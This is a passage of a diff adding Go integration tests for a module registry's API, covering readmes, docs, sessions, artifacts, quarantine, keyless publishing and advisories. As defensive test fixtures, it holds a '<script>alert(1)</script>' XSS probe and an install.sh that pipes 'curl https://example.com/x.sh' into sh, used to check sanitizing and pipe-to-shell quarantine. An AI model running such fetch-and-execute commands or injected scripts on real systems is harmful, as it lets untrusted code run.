+	if len(diff.AddedAuthors) != 1 || diff.AddedAuthors[0].Name != "bob" {
+		t.Errorf("expected bob to be added as an author, got %+v", diff.AddedAuthors)
+	}
+
+	if _, err := h.Client().Compare(ctx, "dex", "0.1.0", "9.9.9"); !client.HasCode(err, server.CodeVersionNotFound) {
+		t.Errorf("expected %s comparing an unknown version, got %v", server.CodeVersionNotFound, err)
+	}
+
+	if _, err := h.Client().Compare(ctx, "dex", "latest", "0.2.0"); !client.HasCode(err, server.CodeBadRequest) {
+		t.Errorf("expected %s comparing an invalid version, got %v", server.CodeBadRequest, err)
+	}
+}
+
+func TestReadme(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+
+	manifest := dexManifest()
+	manifest.Readme = "# DEX\n\n<script>alert(1)</script>Trade **pools**."
+	if _, err := h.Client(client.WithToken(token(t, f, "bob"))).PublishManifest(ctx, manifest); err != nil {
+		t.Fatal(err)
+	}
+
+	markdown, html, err := h.Client().Readme(ctx, "dex", "0.1.0")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if markdown != manifest.Readme {
+		t.Errorf("expected the raw readme %q, got %q", manifest.Readme, markdown)
+	}
+
+	if !strings.Contains(html, "<strong>pools</strong>") || strings.Contains(html, "<script>") {
+		t.Errorf("expected a sanitized rendering, got %q", html)
+	}
+
+	if _, _, err := h.Client().Readme(ctx, "dex", "9.9.9"); !client.HasCode(err, server.CodeVersionNotFound) {
+		t.Errorf("expected %s for an unknown version, got %v", server.CodeVersionNotFound, err)
+	}
+}
+
+func TestDocs(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+
+	if _, err := h.Client(client.WithToken(token(t, f, "bob"))).PublishManifest(ctx, dexManifest()); err != nil {
+		t.Fatal(err)
+	}
+
+	var versionID int
+	if err := h.DB.QueryRowContext(ctx, `
+		SELECT (j.payload->>'module_version_id')::int
+		FROM jobs j
+		JOIN module_versions mv ON mv.id = (j.payload->>'module_version_id')::int
+		JOIN modules m ON m.id = mv.module_id
+		WHERE j.kind = $1 AND m.name = 'dex' AND mv.version = '0.1.0'`,
+		jobs.KindExtractDocs,
+	).Scan(&versionID); err != nil {
+		t.Fatalf("expected a docs job to be enqueued on publish: %v", err)
+	}
+
+	if pkgs, err := h.Client().Docs(ctx, "dex", "0.1.0"); err != nil || len(pkgs) != 0 {
+		t.Errorf("expected no docs before they are extracted, got %+v (%v)", pkgs, err)
+	}
+
+	pkg := docs.Package{ImportPath: "github.com/example/dex", Name: "dex", Synopsis: "Package dex swaps tokens."}
+	if err := docs.Store(ctx, h.DB, versionID, []docs.Package{pkg}); err != nil {
+		t.Fatal(err)
+	}
+
+	pkgs, err := h.Client().Docs(ctx, "dex", "0.1.0")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(pkgs) != 1 || pkgs[0].ImportPath != pkg.ImportPath || pkgs[0].Synopsis != pkg.Synopsis {
+		t.Errorf("expected the stored docs %+v, got %+v", pkg, pkgs)
+	}
+
+	if _, err := h.Client().Docs(ctx, "dex", "9.9.9"); !client.HasCode(err, server.CodeVersionNotFound) {
+		t.Errorf("expected %s for an unknown version, got %v", server.CodeVersionNotFound, err)
+	}
+}
+
+func TestGenerateDocs(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git is not installed")
+	}
+
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+
+	manifest := dexManifest()
+	manifest.License = ""
+	if _, err := h.Client(client.WithToken(token(t, f, "bob"))).PublishManifest(ctx, manifest); err != nil {
+		t.Fatal(err)
+	}
+
+	// serve the release from a local repository tagged v0.1.0
+	repo := t.TempDir()
+	files := map[string]string{
+		"go.mod":  "module github.com/example/dex\n",
+		"dex.go":  "// Package dex swaps tokens.\npackage dex\n\n// Swap swaps tokens.\nfunc Swap() {}\n",
+		"LICENSE": "Permission is hereby granted, free of charge, to any person obtaining a copy of this software.\n\nThe above copyright notice and this permission notice shall be included in all copies.\n",
+	}
+	for name, content := range files {
+		if err := ioutil.WriteFile(filepath.Join(repo, name), []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	for _, args := range [][]string{
+		{"init", "--quiet"},
+		{"add", "."},
+		{"-c", "user.name=bob", "-c", "user.email=bob@example.com", "commit", "--quiet", "-m", "release"},
+		{"tag", "v0.1.0"},
+	} {
+		cmd := exec.Command("git", args...)
+		cmd.Dir = repo
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %s: %v", args, out, err)
+		}
+	}
+
+	var versionID int
+	if err := h.DB.QueryRowContext(ctx, `
+		UPDATE modules m SET repo = $1
+		FROM module_versions mv
+		WHERE mv.module_id = m.id AND m.name = 'dex' AND mv.version = '0.1.0'
+		RETURNING mv.id`,
+		repo,
+	).Scan(&versionID); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := docs.Generate(ctx, h.DB, versionID); err != nil {
+		t.Fatal(err)
+	}
+
+	pkgs, err := h.Client().Docs(ctx, "dex", "0.1.0")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(pkgs) != 1 || pkgs[0].ImportPath != "github.com/example/dex" || len(pkgs[0].Funcs) != 1 {
+		t.Errorf("expected the docs of the dex package, got %+v", pkgs)
+	}
+
+	m, err := h.Client().GetModule(ctx, "dex")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if m.License != "MIT" {
+		t.Errorf("expected the license detected from the LICENSE file, got %q", m.License)
+	}
+}
+
+func TestTransferModule(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	admin := h.Client(client.WithToken(token(t, f, "alice")))
+
+	if err := h.Client(client.WithToken(token(t, f, "bob"))).TransferModule(ctx, "oracle", "carol"); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s transferring as a non-administrator, got %v", server.CodeForbidden, err)
+	}
+
+	if err := admin.TransferModule(ctx, "oracle", "unknown"); !client.HasCode(err, server.CodeNotFound) {
+		t.Errorf("expected %s transferring to an unknown user, got %v", server.CodeNotFound, err)
+	}
+
+	if err := admin.TransferModule(ctx, "unknown", "carol"); !client.HasCode(err, server.CodeModuleNotFound) {
+		t.Errorf("expected %s transferring an unknown module, got %v", server.CodeModuleNotFound, err)
+	}
+
+	if err := admin.TransferModule(ctx, "oracle", "carol"); err != nil {
+		t.Fatal(err)
+	}
+
+	var author string
+	if err := h.DB.QueryRowContext(ctx, `
+		SELECT u.name FROM modules m JOIN users u ON u.id = m.author WHERE m.name = 'oracle'`,
+	).Scan(&author); err != nil {
+		t.Fatal(err)
+	}
+
+	if author != "carol" {
+		t.Errorf("expected oracle to be transferred to carol, got %s", author)
+	}
+
+	if _, err := h.DB.ExecContext(ctx, `UPDATE users SET banned = TRUE WHERE name = 'bob'`); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := admin.TransferModule(ctx, "oracle", "bob"); !client.HasCode(err, server.CodeValidationFailed) {
+		t.Errorf("expected %s transferring to a banned user, got %v", server.CodeValidationFailed, err)
+	}
+}
+
+func TestSessions(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	bobToken := token(t, f, "bob")
+	bob := h.Client(client.WithToken(bobToken))
+
+	if _, err := h.Client().Sessions(ctx); !client.HasCode(err, server.CodeUnauthorized) {
+		t.Errorf("expected %s for anonymous requests, got %v", server.CodeUnauthorized, err)
+	}
+
+	// login exchanges the API token for a session cookie, twice as from two
+	// devices
+	login := func() (*http.Cookie, server.LoginResponse) {
+		t.Helper()
+
+		req, err := http.NewRequest(http.MethodPost, h.URL+"/api/v1/user/sessions", nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		req.Header.Set("Authorization", "Bearer "+bobToken)
+
+		resp, err := h.Server.Client().Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer resp.Body.Close()
+
+		if resp.StatusCode != http.StatusCreated {
+			t.Fatalf("expected %d logging in, got %d", http.StatusCreated, resp.StatusCode)
+		}
+
+		var out server.LoginResponse
+		if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
+			t.Fatal(err)
+		}
+
+		for _, c := range resp.Cookies() {
+			if c.Name == hmacauth.SessionCookie {
+				return c, out
+			}
+		}
+
+		t.Fatal("expected a session cookie")
+		return nil, out
+	}
+
+	cookie, current := login()
+	other, _ := login()
+
+	send := func(method, path string, c *http.Cookie, csrf string) int {
+		t.Helper()
+
+		req, err := http.NewRequest(method, h.URL+path, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		req.AddCookie(&http.Cookie{Name: c.Name, Value: c.Value})
+		if csrf != "" {
+			req.Header.Set(hmacauth.HeaderCSRFToken, csrf)
+		}
+
+		resp, err := h.Server.Client().Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+
+		return resp.StatusCode
+	}
+
+	sessions, err := bob.Sessions(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(sessions) != 2 {
+		t.Fatalf("expected 2 sessions, got %+v", sessions)
+	}
+
+	if status := send(http.MethodDelete, "/api/v1/user/sessions", cookie, ""); status != http.StatusForbidden {
+		t.Errorf("expected %d revoking without a CSRF token, got %d", http.StatusForbidden, status)
+	}
+
+	// the current session survives revoking all others
+	if status := send(http.MethodDelete, "/api/v1/user/sessions", cookie, current.CSRFToken); status != http.StatusNoContent {
+		t.Fatalf("expected %d revoking other sessions, got %d", http.StatusNoContent, status)
+	}
+
+	if status := send(http.MethodGet, "/api/v1/csrf", other, ""); status != http.StatusUnauthorized {
+		t.Errorf("expected the other session to be revoked, got %d", status)
+	}
+
+	if status := send(http.MethodGet, "/api/v1/csrf", cookie, ""); status != http.StatusOK {
+		t.Errorf("expected the current session to remain valid, got %d", status)
+	}
+
+	if sessions, err := bob.Sessions(ctx); err != nil || len(sessions) != 1 || sessions[0].ID != current.Session.ID {
+		t.Errorf("expected only the current session, got %+v (%v)", sessions, err)
+	}
+
+	if err := h.Client(client.WithToken(token(t, f, "carol"))).RevokeSession(ctx, current.Session.ID); !client.HasCode(err, server.CodeNotFound) {
+		t.Errorf("expected %s revoking the session of another user, got %v", server.CodeNotFound, err)
+	}
+
+	if err := bob.RevokeSession(ctx, current.Session.ID); err != nil {
+		t.Fatal(err)
+	}
+
+	if status := send(http.MethodGet, "/api/v1/csrf", cookie, ""); status != http.StatusUnauthorized {
+		t.Errorf("expected the revoked session to be rejected, got %d", status)
+	}
+}
+
+func TestDeadJobs(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	admin := h.Client(client.WithToken(token(t, f, "alice")))
+
+	var id int64
+	if err := h.DB.QueryRowContext(ctx, `
+		INSERT INTO jobs (kind, payload, status, attempts, max_attempts, last_error, run_at)
+		VALUES ($1, '{}', $2, 5, 5, 'boom', NOW())
+		RETURNING id`,
+		jobs.KindSyncChains, jobs.StatusDead,
+	).Scan(&id); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := h.Client(client.WithToken(token(t, f, "bob"))).DeadJobs(ctx, 10); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s listing as a non-administrator, got %v", server.CodeForbidden, err)
+	}
+
+	dead, err := admin.DeadJobs(ctx, 10)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(dead) != 1 || dead[0].ID != id || dead[0].LastError != "boom" {
+		t.Fatalf("expected the dead job, got %+v", dead)
+	}
+
+	if err := admin.RetryJob(ctx, id); err != nil {
+		t.Fatal(err)
+	}
+
+	var status string
+	var attempts int
+	if err := h.DB.QueryRowContext(ctx, `SELECT status, attempts FROM jobs WHERE id = $1`, id).Scan(&status, &attempts); err != nil {
+		t.Fatal(err)
+	}
+
+	if status != jobs.StatusPending || attempts != 0 {
+		t.Errorf("expected the job to be pending with no attempts, got %s after %d", status, attempts)
+	}
+
+	if err := admin.RetryJob(ctx, id); !client.HasCode(err, server.CodeNotFound) {
+		t.Errorf("expected %s retrying a job that is not dead, got %v", server.CodeNotFound, err)
+	}
+}
+
+func TestPromoteVersion(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	bob := h.Client(client.WithToken(token(t, f, "bob")))
+
+	manifest := dexManifest()
+	manifest.Version = "0.2.0-rc.1"
+	if _, err := bob.PublishManifest(ctx, manifest); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := h.Client(client.WithToken(token(t, f, "carol"))).Promote(ctx, "dex", "0.2.0-rc.1"); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s promoting as a non-owner, got %v", server.CodeForbidden, err)
+	}
+
+	if _, err := bob.Promote(ctx, "dex", "0.3.0-rc.1"); !client.HasCode(err, server.CodeVersionNotFound) {
+		t.Errorf("expected %s promoting an unknown version, got %v", server.CodeVersionNotFound, err)
+	}
+
+	promoted, err := bob.Promote(ctx, "dex", "0.2.0-rc.1")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if promoted.Version != "0.2.0" || promoted.Verified || promoted.Signed() {
+		t.Errorf("expected an unverified, unsigned 0.2.0, got %+v", promoted)
+	}
+
+	if m, err := h.Client().GetModule(ctx, "dex"); err != nil || m.Version != "0.2.0" {
+		t.Errorf("expected the module to advance to 0.2.0, got %+v (%v)", m, err)
+	}
+
+	var promotedJob bool
+	if err := h.DB.QueryRowContext(ctx, `
+		SELECT EXISTS (
+			SELECT 1
+			FROM jobs j
+			JOIN module_versions mv ON mv.id = (j.payload->>'module_version_id')::int
+			JOIN modules m ON m.id = mv.module_id
+			WHERE j.kind = $1 AND m.name = 'dex' AND mv.version = '0.2.0' AND (j.payload->>'promoted')::bool
+		)`,
+		jobs.KindVerifyTag,
+	).Scan(&promotedJob); err != nil || !promotedJob {
+		t.Errorf("expected the promoted version's tag to be verified in a job (%v)", err)
+	}
+
+	if _, err := bob.Promote(ctx, "dex", "0.2.0-rc.1"); !client.HasCode(err, server.CodeVersionConflict) {
+		t.Errorf("expected %s promoting twice, got %v", server.CodeVersionConflict, err)
+	}
+
+	if _, err := bob.Promote(ctx, "dex", "0.2.0"); !client.HasCode(err, server.CodeVersionConflict) {
+		t.Errorf("expected %s promoting a stable version, got %v", server.CodeVersionConflict, err)
+	}
+}
+
+func TestStagedPublish(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	bob := h.Client(client.WithToken(token(t, f, "bob")))
+
+	if _, err := bob.StageManifest(ctx, dexManifest()); !client.HasCode(err, server.CodeModuleConflict) {
+		t.Errorf("expected %s staging a new module, got %v", server.CodeModuleConflict, err)
+	}
+
+	if _, err := bob.PublishManifest(ctx, dexManifest()); err != nil {
+		t.Fatal(err)
+	}
+
+	staged := dexManifest()
+	staged.Version = "0.2.0"
+	staged.Description = "Order book exchange with limit orders."
+	if _, err := bob.StageManifest(ctx, staged); err != nil {
+		t.Fatal(err)
+	}
+
+	versions := func(c *client.Client) []string {
+		t.Helper()
+
+		list, err := c.ListVersions(ctx, "dex")
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		var out []string
+		for _, mv := range list {
+			out = append(out, mv.Version+":"+mv.Status)
+		}
+
+		return out
+	}
+
+	if got := versions(h.Client()); strings.Join(got, ",") != "0.1.0:published" {
+		t.Errorf("expected the staged version to be hidden from others, got %v", got)
+	}
+
+	if got := versions(bob); strings.Join(got, ",") != "0.1.0:published,0.2.0:staged" {
+		t.Errorf("expected the owner to see the staged version, got %v", got)
+	}
+
+	if m, err := h.Client().GetModule(ctx, "dex"); err != nil || m.Version != "0.1.0" || m.Description == staged.Description {
+		t.Errorf("expected staging to leave the module untouched, got %+v (%v)", m, err)
+	}
+
+	if _, err := bob.PublishManifest(ctx, staged); !client.HasCode(err, server.CodeVersionConflict) {
+		t.Errorf("expected %s publishing a staged version, got %v", server.CodeVersionConflict, err)
+	}
+
+	if _, err := h.Client(client.WithToken(token(t, f, "carol"))).Release(ctx, "dex", "0.2.0"); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s releasing as a non-owner, got %v", server.CodeForbidden, err)
+	}
+
+	released, err := bob.Release(ctx, "dex", "0.2.0")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if released.Version != "0.2.0" || released.Description != staged.Description {
+		t.Errorf("expected the release to update the module, got %+v", released)
+	}
+
+	if _, err := bob.Release(ctx, "dex", "0.2.0"); !client.HasCode(err, server.CodeVersionConflict) {
+		t.Errorf("expected %s releasing twice, got %v", server.CodeVersionConflict, err)
+	}
+
+	// discarding a staged version leaves the module untouched
+	discarded := dexManifest()
+	discarded.Version = "0.3.0"
+	if _, err := bob.StageManifest(ctx, discarded); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := bob.DeleteVersion(ctx, "dex", "0.3.0"); err != nil {
+		t.Fatal(err)
+	}
+
+	if got := versions(bob); strings.Join(got, ",") != "0.1.0:published,0.2.0:published" {
+		t.Errorf("expected the staged version to be discarded, got %v", got)
+	}
+
+	if m, err := h.Client().GetModule(ctx, "dex"); err != nil || m.Version != "0.2.0" {
+		t.Errorf("expected the module to remain at 0.2.0, got %+v (%v)", m, err)
+	}
+}
+
+func TestArtifacts(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	bob := h.Client(client.WithToken(token(t, f, "bob")))
+
+	if _, err := bob.PublishManifest(ctx, dexManifest()); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := h.Client().DownloadArtifact(ctx, "dex", "0.1.0", ioutil.Discard); !client.HasCode(err, server.CodeNotFound) {
+		t.Errorf("expected %s downloading a missing artifact, got %v", server.CodeNotFound, err)
+	}
+
+	artifact := tarball(t, map[string]string{"dex/go.mod": "module github.com/example/dex\n"})
+
+	if _, err := h.Client(client.WithToken(token(t, f, "carol"))).UploadArtifact(ctx, "dex", "0.1.0", artifact); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s uploading as a non-owner, got %v", server.CodeForbidden, err)
+	}
+
+	if _, err := bob.UploadArtifact(ctx, "dex", "0.2.0", artifact); !client.HasCode(err, server.CodeVersionNotFound) {
+		t.Errorf("expected %s uploading for an unknown version, got %v", server.CodeVersionNotFound, err)
+	}
+
+	sum := sha256.Sum256(artifact)
+
+	mv, err := bob.UploadArtifact(ctx, "dex", "0.1.0", artifact)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if mv.Checksum != hex.EncodeToString(sum[:]) || mv.ArtifactSize != int64(len(artifact)) {
+		t.Errorf("expected the artifact's checksum and size to be recorded, got %+v", mv)
+	}
+
+	if _, err := bob.UploadArtifact(ctx, "dex", "0.1.0", artifact); err != nil {
+		t.Errorf("expected uploading the same artifact again to succeed, got %v", err)
+	}
+
+	tampered := tarball(t, map[string]string{"dex/go.mod": "module github.com/example/tampered\n"})
+	if _, err := bob.UploadArtifact(ctx, "dex", "0.1.0", tampered); !client.HasCode(err, server.CodeVersionConflict) {
+		t.Errorf("expected %s replacing an artifact, got %v", server.CodeVersionConflict, err)
+	}
+
+	var buf bytes.Buffer
+	if err := h.Client().DownloadArtifact(ctx, "dex", "0.1.0", &buf); err != nil {
+		t.Fatal(err)
+	}
+
+	if !bytes.Equal(buf.Bytes(), artifact) {
+		t.Errorf("expected the uploaded artifact, got %q", buf.Bytes())
+	}
+
+	var downloads int64
+	if err := h.DB.QueryRowContext(ctx, `
+		SELECT mv.downloads
+		FROM module_versions mv
+		JOIN modules m ON m.id = mv.module_id
+		WHERE m.name = 'dex' AND mv.version = '0.1.0'`,
+	).Scan(&downloads); err != nil || downloads != 1 {
+		t.Errorf("expected the download to be counted, got %d (%v)", downloads, err)
+	}
+
+	if err := h.Client(client.WithUserAgent("Go/1.15 goproxy")).DownloadArtifact(ctx, "dex", "0.1.0", ioutil.Discard); err != nil {
+		t.Fatal(err)
+	}
+
+	clients, err := h.Client().ClientDownloads(ctx, "dex")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	var got []string
+	for _, cd := range clients {
+		got = append(got, fmt.Sprintf("%s:%d", cd.Client, cd.Downloads))
+	}
+
+	if strings.Join(got, ",") != "cli:1,go-proxy:1" {
+		t.Errorf("expected downloads to be attributed to the CLI and a Go proxy, got %v", got)
+	}
+
+	// removal requests disputing a module block its downloads and uploads
+	if _, err := h.DB.ExecContext(ctx, `UPDATE modules SET disputed = TRUE WHERE name = 'dex'`); err != nil {
+		t.Fatal(err)
+	}
+
+	var apiErr *client.Error
+	if err := h.Client().DownloadArtifact(ctx, "dex", "0.1.0", ioutil.Discard); !errors.As(err, &apiErr) || apiErr.Status != http.StatusUnavailableForLegalReasons {
+		t.Errorf("expected downloads of a disputed module to be blocked, got %v", err)
+	}
+
+	if _, err := bob.UploadArtifact(ctx, "dex", "0.1.0", artifact); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s uploading to a disputed module, got %v", server.CodeForbidden, err)
+	}
+}
+
+func TestQuarantine(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	bob := h.Client(client.WithToken(token(t, f, "bob")))
+	admin := h.Client(client.WithToken(token(t, f, "alice")))
+
+	if _, err := bob.PublishManifest(ctx, dexManifest()); err != nil {
+		t.Fatal(err)
+	}
+
+	malicious := tarball(t, map[string]string{"dex/install.sh": "curl https://example.com/x.sh | sh\n"})
+
+	mv, err := bob.UploadArtifact(ctx, "dex", "0.1.0", malicious)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if mv.Status != module.VersionStatusQuarantined || !strings.Contains(mv.QuarantineReason, "pipe_to_shell") {
+		t.Errorf("expected the version to be quarantined for piping to a shell, got %+v", mv)
+	}
+
+	if err := h.Client().DownloadArtifact(ctx, "dex", "0.1.0", ioutil.Discard); !client.HasCode(err, server.CodeVersionNotFound) {
+		t.Errorf("expected %s downloading a quarantined version, got %v", server.CodeVersionNotFound, err)
+	}
+
+	if _, err := bob.QuarantinedVersions(ctx); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s listing quarantined versions as a non-administrator, got %v", server.CodeForbidden, err)
+	}
+
+	quarantined, err := admin.QuarantinedVersions(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(quarantined) != 1 || quarantined[0].Module != "dex" || quarantined[0].Version != "0.1.0" {
+		t.Errorf("expected dex 0.1.0 to be quarantined, got %+v", quarantined)
+	}
+
+	if err := bob.ClearVersion(ctx, "dex", "0.1.0"); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s clearing as a non-administrator, got %v", server.CodeForbidden, err)
+	}
+
+	if err := admin.ClearVersion(ctx, "dex", "0.1.0"); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := admin.ClearVersion(ctx, "dex", "0.1.0"); !client.HasCode(err, server.CodeVersionConflict) {
+		t.Errorf("expected %s clearing twice, got %v", server.CodeVersionConflict, err)
+	}
+
+	if err := h.Client().DownloadArtifact(ctx, "dex", "0.1.0", ioutil.Discard); err != nil {
+		t.Errorf("expected a cleared version to be downloadable, got %v", err)
+	}
+}
+
+// tarball returns a gzipped tarball of the files, by path.
+func tarball(t *testing.T, files map[string]string) []byte {
+	t.Helper()
+
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+
+	for name, contents := range files {
+		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(contents)), Typeflag: tar.TypeReg}); err != nil {
+			t.Fatal(err)
+		}
+
+		if _, err := tw.Write([]byte(contents)); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := gz.Close(); err != nil {
+		t.Fatal(err)
+	}
+
+	return buf.Bytes()
+}
+
+// idTokens defines an IDTokenVerifier accepting the ID tokens it maps to
+// their claims.
+type idTokens map[string]keyless.Claims
+
+func (ids idTokens) Verify(_ context.Context, rawToken string) (keyless.Claims, error) {
+	claims, ok := ids[rawToken]
+	if !ok {
+		return keyless.Claims{}, errors.New("invalid ID token")
+	}
+
+	return claims, nil
+}
+
+func TestKeylessPublish(t *testing.T) {
+	cfg := config.Default()
+	cfg.KeylessAudience = "atlas"
+
+	h := testutil.NewHarness(t, cfg, server.WithIDTokenVerifier(idTokens{
+		"release": {Repository: "example/dex", Workflow: "release", Ref: "refs/tags/v0.2.0"},
+		"branch":  {Repository: "example/dex", Workflow: "release", Ref: "refs/heads/main"},
+	}))
+
+	f, err := seed.Default(time.Now())
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	h.Seed(f)
+
+	ctx := context.Background()
+	bob := h.Client(client.WithToken(token(t, f, "bob")))
+
+	if _, err := bob.PublishManifest(ctx, dexManifest()); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := bob.AddTrustPolicy(ctx, "dex", module.TrustPolicy{Repository: "example/other"}); !client.HasCode(err, server.CodeValidationFailed) {
+		t.Errorf("expected %s trusting another repository, got %v", server.CodeValidationFailed, err)
+	}
+
+	tp, err := bob.AddTrustPolicy(ctx, "dex", module.TrustPolicy{Repository: "example/dex", Ref: "refs/tags/v*"})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if policies, err := bob.TrustPolicies(ctx, "dex"); err != nil || len(policies) != 1 || policies[0].ID != tp.ID {
+		t.Errorf("expected the trust policy to be listed, got %+v (%v)", policies, err)
+	}
+
+	if _, err := h.Client().ExchangeIDToken(ctx, "dex", "forged"); !client.HasCode(err, server.CodeUnauthorized) {
+		t.Errorf("expected %s exchanging an invalid ID token, got %v", server.CodeUnauthorized, err)
+	}
+
+	if _, err := h.Client().ExchangeIDToken(ctx, "dex", "branch"); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s exchanging an ID token of an untrusted ref, got %v", server.CodeForbidden, err)
+	}
+
+	cred, err := h.Client().ExchangeIDToken(ctx, "dex", "release")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	ci := h.Client(client.WithToken(cred.Token))
+
+	manifest := dexManifest()
+	manifest.Version = "0.2.0"
+	if m, err := ci.PublishManifest(ctx, manifest); err != nil || m.Version != "0.2.0" {
+		t.Fatalf("expected the credential to publish dex 0.2.0, got %+v (%v)", m, err)
+	}
+
+	other := dexManifest()
+	other.Name = "oracle"
+	if _, err := ci.PublishManifest(ctx, other); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s publishing another module with the credential, got %v", server.CodeForbidden, err)
+	}
+
+	if _, err := ci.RotateToken(ctx); !client.HasCode(err, server.CodeUnauthorized) {
+		t.Errorf("expected %s using the credential beyond publishing, got %v", server.CodeUnauthorized, err)
+	}
+
+	if err := bob.DeleteTrustPolicy(ctx, "dex", tp.ID); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := h.Client().ExchangeIDToken(ctx, "dex", "release"); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s exchanging once the trust policy is removed, got %v", server.CodeForbidden, err)
+	}
+}
+
+func TestConditionalRequests(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	carol := h.Client(client.WithToken(token(t, f, "carol")))
+
+	get := func(path string, header http.Header) *http.Response {
+		t.Helper()
+
+		req, err := http.NewRequest(http.MethodGet, h.URL+path, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+
+		for k, v := range header {
+			req.Header[k] = v
+		}
+
+		resp, err := h.Server.Client().Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+
+		return resp
+	}
+
+	for _, path := range []string{
+		"/api/v1/modules/nft",
+		"/api/v1/modules/nft/versions",
+		"/api/v1/modules/search?q=nft",
+	} {
+		first := get(path, nil)
+		etag := first.Header.Get("ETag")
+		if first.StatusCode != http.StatusOK || etag == "" {
+			t.Fatalf("expected %d with an ETag for %s, got %d", http.StatusOK, path, first.StatusCode)
+		}
+
+		if resp := get(path, http.Header{"If-None-Match": {etag}}); resp.StatusCode != http.StatusNotModified {
+			t.Errorf("expected %d for an unchanged %s, got %d", http.StatusNotModified, path, resp.StatusCode)
+		}
+
+		if lm := first.Header.Get("Last-Modified"); lm != "" {
+			if resp := get(path, http.Header{"If-Modified-Since": {lm}}); resp.StatusCode != http.StatusNotModified {
+				t.Errorf("expected %d for %s unmodified since %s, got %d", http.StatusNotModified, path, lm, resp.StatusCode)
+			}
+		}
+	}
+
+	etag := get("/api/v1/modules/nft/versions", nil).Header.Get("ETag")
+
+	versions, err := carol.ListVersions(ctx, "nft")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if err := carol.Yank(ctx, "nft", versions[0].Version); err != nil {
+		t.Fatal(err)
+	}
+
+	if resp := get("/api/v1/modules/nft/versions", http.Header{"If-None-Match": {etag}}); resp.StatusCode != http.StatusOK {
+		t.Errorf("expected %d once a version was yanked, got %d", http.StatusOK, resp.StatusCode)
+	}
+}
+
+func TestAdvisories(t *testing.T) {
+	h, f := newSeededHarness(t)
+	ctx := context.Background()
+	carol := h.Client(client.WithToken(token(t, f, "carol")))
+	bob := h.Client(client.WithToken(token(t, f, "bob")))
+
+	advisory := module.Advisory{
+		Identifier:       "CVE-2021-1234",
+		AffectedVersions: "< 0.2.0",
+		Severity:         module.SeverityHigh,
+		Description:      "Transfers skip the ownership check.",
+	}
+
+	if _, err := bob.PublishAdvisory(ctx, "nft", advisory); !client.HasCode(err, server.CodeForbidden) {
+		t.Errorf("expected %s publishing as a non-owner, got %v", server.CodeForbidden, err)
+	}
+
+	if _, err := carol.PublishAdvisory(ctx, "nft", module.Advisory{Identifier: "oops"}); violations(t, err)["identifier"] == "" {
+		t.Errorf("expected an invalid advisory to be rejected, got %v", err)
+	}
+
+	if _, err := carol.PublishAdvisory(ctx, "nft", advisory); err != nil {
+		t.Fatal(err)
+	}
+
